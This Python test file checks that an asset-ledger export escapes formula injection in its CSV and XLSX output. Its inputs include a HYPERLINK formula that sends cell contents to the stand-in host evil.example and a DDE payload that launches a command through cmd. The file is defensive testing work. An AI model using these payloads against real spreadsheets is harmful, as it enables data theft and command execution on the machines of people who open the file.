"""Exports are safe to open in Excel or WPS: text that a spreadsheet would run as a formula
is written as text, and reads back to the same value."""

import csv
import io

from openpyxl import load_workbook

from shared.spreadsheet import restore
from tests.funds.conftest import completed_project, county, county_fund, make_asset

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


async def test_the_asset_ledger_never_carries_a_live_formula(funds) -> None:
    fund = await county_fund(funds)
    project = await completed_project(funds, fund["id"])
    await make_asset(
        funds, project["id"], name=FORMULA, custodian="+1+cmd|' /C calc'!A0", location="@SUM(1)"
    )
    officer = county(funds)
    exported = await officer.get("/v1/exports/assets")
    assert exported.status_code == 200
    row = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))[1]
    assert row[1] == "'" + FORMULA
    assert row[9].startswith("'+")
    assert row[10] == "'@SUM(1)"
    assert restore(row[1]) == FORMULA
    xlsx = await officer.get("/v1/exports/assets", params={"format": "xlsx"})
    cells = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))[1]
    assert cells[1] == "'" + FORMULA  # a string cell, not a formula
    assert all(not (isinstance(c, str) and c.startswith(("=", "+", "@"))) for c in cells)
